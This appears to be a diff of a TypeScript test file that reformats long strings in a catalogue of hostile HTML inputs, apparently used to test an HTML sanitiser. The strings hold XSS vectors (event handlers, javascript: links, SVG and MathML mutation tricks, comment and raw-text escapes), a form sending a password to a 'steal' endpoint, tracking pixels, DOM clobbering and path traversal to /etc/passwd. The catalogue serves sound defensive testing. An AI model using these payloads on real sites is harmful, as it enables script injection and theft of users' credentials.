@@ -45,14 +45,18 @@ const handlers: HostileHtml[] = [
   { name: 'a handler of details', html: `<details open ontoggle="${run}"><summary>Voir</summary>Texte</details>` },
   {
     name: 'a handler of media',
-    html: `<video src="${there}/a.mp4" onloadstart="${run}" autoplay><source src="${there}/b.mp4" onerror="${run}"></video><audio src=x onerror=${run}>`,
+    html:
+      `<video src="${there}/a.mp4" onloadstart="${run}" autoplay><source src="${there}/b.mp4" onerror="${run}">` +
+      `</video><audio src=x onerror=${run}>`,
   },
   { name: 'a handler of a marquee', html: `<marquee onstart="${run}">défile</marquee>` },
   { name: 'a handler behind a line break in the tag', html: `<img src=x\nonerror\n=\n"${run}"\n>` },
   { name: 'a handler after a greater-than sign in an attribute', html: `<img alt="a>b" src=x onerror="${run}">` },
   {
     name: 'a popover that opens itself',
-    html: `<button popovertarget="p" onclick="${run}">ouvrir</button><div popover id="p" onbeforetoggle="${run}">x</div>`,
+    html:
+      `<button popovertarget="p" onclick="${run}">ouvrir</button><div popover id="p" ` +
+      `onbeforetoggle="${run}">x</div>`,
   },
 ]
 
@@ -103,17 +107,24 @@ const elsewhere: HostileHtml[] = [
   },
   {
     name: 'a path that ends a payment or changes the person',
-    html: '<a href="/payment/success?orderId=1">a</a><a href="/switch?token=x&admin_id=1&user_id=2">b</a><a href="/login">c</a>',
+    html:
+      '<a href="/payment/success?orderId=1">a</a><a href="/switch?token=x&admin_id=1&user_id=2">b</a><a ' +
+      'href="/login">c</a>',
   },
   {
     name: 'a path out of ours',
-    html: '<a href="/../../etc/passwd">a</a><a href="/%2e%2e/%2e%2e/x">b</a><a href="/subjects/..%2f..%2fx/details">c</a>',
+    html:
+      '<a href="/../../etc/passwd">a</a><a href="/%2e%2e/%2e%2e/x">b</a><a ' +
+      'href="/subjects/..%2f..%2fx/details">c</a>',
   },
   { name: 'a link of ten thousand letters', html: `<a href="/exams?${'a'.repeat(10_000)}">long</a>` },
   { name: 'a picture that counts readers', html: `<img src="${there}/pixel.gif" width="1" height="1">` },
   {
     name: 'pictures by other attributes',
-    html: `<img srcset="${there}/2x.png 2x" sizes="100vw" alt="a"><img lowsrc="${there}/l.png" dynsrc="${there}/d.avi" alt="b"><picture><source srcset="${there}/s.webp"><img src="${there}/p.png" alt="c"></picture>`,
+    html:
+      `<img srcset="${there}/2x.png 2x" sizes="100vw" alt="a"><img lowsrc="${there}/l.png" ` +
+      `dynsrc="${there}/d.avi" alt="b"><picture><source srcset="${there}/s.webp"><img src="${there}/p.png" ` +
+      'alt="c"></picture>',
   },
   {
     name: 'a background by attribute',
@@ -122,7 +133,9 @@ const elsewhere: HostileHtml[] = [
   { name: 'a body with a background', html: `<body background="${there}/b.png" text="white" link="white">x</body>` },
   {
     name: 'links and styles of the head',
-    html: `<link rel="stylesheet" href="${there}/a.css"><link rel="preload" as="image" href="${there}/a.png"><link rel="dns-prefetch" href="${there}">`,
+    html:
+      `<link rel="stylesheet" href="${there}/a.css"><link rel="preload" as="image" href="${there}/a.png"><link ` +
+      `rel="dns-prefetch" href="${there}">`,
   },
   { name: 'another base', html: `<base href="${there}/" target="_top"><a href="exams">Examens</a>` },
   {
@@ -132,15 +145,21 @@ const elsewhere: HostileHtml[] = [
   { name: 'a manifest and a portal', html: `<html manifest="${there}/m"><portal src="${there}"></portal></html>` },
   {
     name: 'an image map',
-    html: `<img src="/media/x/y.png" usemap="#m" alt="plan"><map name="m"><area shape="default" href="javascript:${run}" alt="z"></map>`,
+    html:
+      '<img src="/media/x/y.png" usemap="#m" alt="plan"><map name="m"><area shape="default" ' +
+      `href="javascript:${run}" alt="z"></map>`,
   },
   {
     name: 'a reference of another kind',
-    html: `<a xlink:href="javascript:${run}">a</a><blockquote cite="javascript:${run}">b</blockquote><q cite="${there}">c</q>`,
+    html:
+      `<a xlink:href="javascript:${run}">a</a><blockquote cite="javascript:${run}">b</blockquote><q ` +
+      `cite="${there}">c</q>`,
   },
   {
     name: 'long descriptions',
-    html: `<img longdesc="${there}/d" src="x" alt="a"><img crossorigin="use-credentials" referrerpolicy="unsafe-url" src="${there}/r.png" alt="b">`,
+    html:
+      `<img longdesc="${there}/d" src="x" alt="a"><img crossorigin="use-credentials" referrerpolicy="unsafe-url" ` +
+      `src="${there}/r.png" alt="b">`,
   },
 ]
 
@@ -157,7 +176,9 @@ const frames: HostileHtml[] = [
   },
   {
     name: 'an object and an embed',
-    html: `<object data="${there}/a.swf" type="application/x-shockwave-flash"><param name="movie" value="${there}"></object><embed src="javascript:${run}"><applet code="x"></applet>`,
+    html:
+      `<object data="${there}/a.swf" type="application/x-shockwave-flash"><param name="movie" value="${there}">` +
+      `</object><embed src="javascript:${run}"><applet code="x"></applet>`,
   },
   {
     name: 'an object in a document of its own',
@@ -165,22 +186,30 @@ const frames: HostileHtml[] = [
   },
   {
     name: 'a fenced frame and a web view',
-    html: `<fencedframe src="${there}"></fencedframe><webview src="${there}" nodeintegration preload="file:///x.js"></webview>`,
+    html:
+      `<fencedframe src="${there}"></fencedframe><webview src="${there}" nodeintegration preload="file:///x.js">` +
+      '</webview>',
   },
 ]
 
 const forms: HostileHtml[] = [
   {
     name: 'a form that asks for the password',
-    html: `<form action="${there}/steal" method="post"><label>Mot de passe <input type="password" name="p"></label><button>Envoyer</button></form>`,
+    html:
+      `<form action="${there}/steal" method="post"><label>Mot de passe <input type="password" name="p"></label>` +
+      '<button>Envoyer</button></form>',
   },
   {
     name: 'buttons that send elsewhere',
-    html: `<form id="f"></form><button form="f" formaction="javascript:${run}">a</button><input type="image" src="${there}/i.png" formaction="${there}">`,
+    html:
+      `<form id="f"></form><button form="f" formaction="javascript:${run}">a</button><input type="image" ` +
+      `src="${there}/i.png" formaction="${there}">`,
   },
   {
     name: 'a form that clobbers its attributes',
-    html: `<form onclick="${run}"><input name="attributes"><input name="nodeName"><input name="removeAttribute"><input name="parentNode"><input name="childNodes"></form>`,
+    html:
+      `<form onclick="${run}"><input name="attributes"><input name="nodeName"><input name="removeAttribute">` +
+      '<input name="parentNode"><input name="childNodes"></form>',
   },
   {
     name: 'a form within a form through a table',
@@ -188,7 +217,9 @@ const forms: HostileHtml[] = [
   },
   {
     name: 'fields of all kinds',
-    html: '<select autofocus><option>1</option></select><textarea>a</textarea><input type="file"><keygen><output>o</output><datalist id="l"><option value="x"></datalist><progress value="1"></progress>',
+    html:
+      '<select autofocus><option>1</option></select><textarea>a</textarea><input type="file"><keygen>' +
+      '<output>o</output><datalist id="l"><option value="x"></datalist><progress value="1"></progress>',
   },
   {
     name: 'a dialog that is open',
@@ -212,7 +243,9 @@ const styles: HostileHtml[] = [
   { name: 'a sheet within a select', html: `<select><style></select><img src=x onerror="${run}"></style></select>` },
   {
     name: 'addresses in a style',
-    html: `<p style="background:url(${there}/x.png);list-style-image:url('${there}/y');cursor:url(${there}/z),auto;behavior:url(#default#time2)">x</p>`,
+    html:
+      `<p style="background:url(${there}/x.png);list-style-image:url('${there}/y');cursor:url(${there}/z),auto;` +
+      'behavior:url(#default#time2)">x</p>',
   },
   {
     name: 'an expression in a style',
@@ -220,23 +253,33 @@ const styles: HostileHtml[] = [
   },
   {
     name: 'classes and names of the application',
-    html: '<div class="ant-modal-mask ant-modal-wrap visually-hidden" id="root" role="dialog" aria-modal="true" data-theme="dark" slot="x" is="x-y" part="p">x</div>',
+    html:
+      '<div class="ant-modal-mask ant-modal-wrap visually-hidden" id="root" role="dialog" aria-modal="true" ' +
+      'data-theme="dark" slot="x" is="x-y" part="p">x</div>',
   },
   {
     name: 'names that clobber the page',
-    html: '<a id="desktop" name="desktop" href="/exams">1</a><img name="getElementById" id="cookie" alt="2" src="x"><form name="body"></form><a id="location"></a><a id="location" name="href" href="/exams">3</a>',
+    html:
+      '<a id="desktop" name="desktop" href="/exams">1</a><img name="getElementById" id="cookie" alt="2" src="x">' +
+      '<form name="body"></form><a id="location"></a><a id="location" name="href" href="/exams">3</a>',
   },
   {
     name: 'fonts and sizes of old',
-    html: '<font size="7" color="white" face="x">A</font><center><basefont size="7"><big>B</big></center><layer src="x">C</layer><spacer width="9999">',
+    html:
+      '<font size="7" color="white" face="x">A</font><center><basefont size="7"><big>B</big></center><layer ' +
+      'src="x">C</layer><spacer width="9999">',
   },
   {
     name: 'a picture as wide as ten screens',
-    html: '<img src="x" width="100000" height="100000" border="9999" hspace="9999" alt="grande"><hr width="99999" size="9999">',
+    html:
+      '<img src="x" width="100000" height="100000" border="9999" hspace="9999" alt="grande"><hr width="99999" ' +
+      'size="9999">',
   },
   {
     name: 'a cell across a thousand columns',
-    html: `<table width="99999"><tr><td colspan="1000" rowspan="65534">x</td><td colspan="-1">y</td><td colspan="1e9">z</td></tr></table>`,
+    html:
+      '<table width="99999"><tr><td colspan="1000" rowspan="65534">x</td><td colspan="-1">y</td><td ' +
+      'colspan="1e9">z</td></tr></table>',
   },
 ]
 
@@ -245,19 +288,27 @@ const foreign: HostileHtml[] = [
   { name: 'a drawing with a script', html: `<svg><script>${run}</script><script href="${there}/a.js"/></svg>` },
   {
     name: 'a drawing that changes a link',
-    html: `<svg><a><animate attributeName="href" values="javascript:${run}"/><text>x</text></a><set attributeName="onmouseover" to="${run}"/></svg>`,
+    html:
+      `<svg><a><animate attributeName="href" values="javascript:${run}"/><text>x</text></a><set ` +
+      `attributeName="onmouseover" to="${run}"/></svg>`,
   },
   {
     name: 'a drawing that uses another',
-    html: `<svg><use href="${there}/s.svg#x"/><image xlink:href="${there}/i.png"/><feImage href="${there}/f.png"/></svg>`,
+    html:
+      `<svg><use href="${there}/s.svg#x"/><image xlink:href="${there}/i.png"/><feImage href="${there}/f.png"/>` +
+      '</svg>',
   },
   {
     name: 'HTML within a drawing',
-    html: `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror="${run}"><iframe src="${there}"></iframe></body></foreignObject></svg>`,
+    html:
+      `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror="${run}"><iframe ` +
+      `src="${there}"></iframe></body></foreignObject></svg>`,
   },
   {
     name: 'a formula with a link',
-    html: `<math href="javascript:${run}"><mi xlink:href="javascript:${run}">x</mi><maction actiontype="statusline#${there}">y</maction></math>`,
+    html:
+      `<math href="javascript:${run}"><mi xlink:href="javascript:${run}">x</mi><maction ` +
+      `actiontype="statusline#${there}">y</maction></math>`,
   },
   {
     name: 'a formula that turns into HTML',
@@ -270,7 +321,9 @@ const foreign: HostileHtml[] = [
   { name: 'a style in a drawing', html: `<svg></p><style><a id="</style><img src=1 onerror=${run}>">` },
   {
     name: 'an annotation',
-    html: `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${run}"></style></annotation-xml></math>`,
+    html:
+      `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${run}"></style></annotation-xml>` +
+      '</math>',
   },
   { name: 'a description in a drawing', html: `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>` },
 ]
@@ -281,11 +334,15 @@ const confusions: HostileHtml[] = [
   { name: 'a textarea', html: `<textarea><a title="</textarea><img src=x onerror=${run}>"></textarea>` },
   {
     name: 'an xmp, a listing and plain text',
-    html: `<xmp><a title="</xmp><img src=x onerror=${run}>"></xmp><listing>&lt;script&gt;${run}</listing><plaintext><script>${run}</script>`,
+    html:
+      `<xmp><a title="</xmp><img src=x onerror=${run}>"></xmp><listing>&lt;script&gt;${run}</listing><plaintext>` +
+      `<script>${run}</script>`,
   },
   {
     name: 'a noembed and a noframes',
-    html: `<noembed><a title="</noembed><img src=x onerror=${run}>"></noembed><noframes><a title="</noframes><script>${run}</script>">`,
+    html:
+      `<noembed><a title="</noembed><img src=x onerror=${run}>"></noembed><noframes><a title="</noframes>` +
+      `<script>${run}</script>">`,
   },
   { name: 'a comment that ends early', html: `<!--><img src=x onerror=${run}>--><!--->b<img src=x onerror=${run}>-->` },
   { name: 'a comment that ends with an exclamation', html: `<!-- a --!><img src=x onerror=${run}><!-- b` },
@@ -309,7 +366,9 @@ const confusions: HostileHtml[] = [
   { name: 'letters as UTF-7', html: `+ADw-script+AD4-${run}+ADw-/script+AD4-` },
   {
     name: 'elements of their own',
-    html: `<x-card onclick="${run}"><slot name="a"></slot><p is="x-p">x</p></x-card><constructor>y</constructor><__proto__>z</__proto__>`,
+    html:
+      `<x-card onclick="${run}"><slot name="a"></slot><p is="x-p">x</p></x-card><constructor>y</constructor>` +
+      '<__proto__>z</__proto__>',
   },
   {
     name: 'attributes of odd names',
